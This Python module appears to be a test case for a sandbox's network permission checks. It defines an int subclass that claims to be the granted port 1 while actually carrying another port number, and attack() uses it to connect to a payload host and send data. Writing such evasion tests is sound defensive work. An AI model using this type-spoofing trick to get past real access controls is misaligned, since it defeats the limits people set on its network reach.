"""A port that says it is another one."""
CATEGORY = "races"
REACH = "net"
GRANT = {"net": ["127.0.0.1:1"]}

import socket

from . import payload


class Port(int):
    __index__ = __int__ = lambda self: 1
    __eq__ = lambda self, other: other == 1
    __hash__ = lambda self: 1
    __str__ = __repr__ = lambda self: "1"


def attack():
    with socket.socket() as connection:
        connection.connect((payload.HOST, Port(payload.PORT)))
        connection.sendall(b"evil")
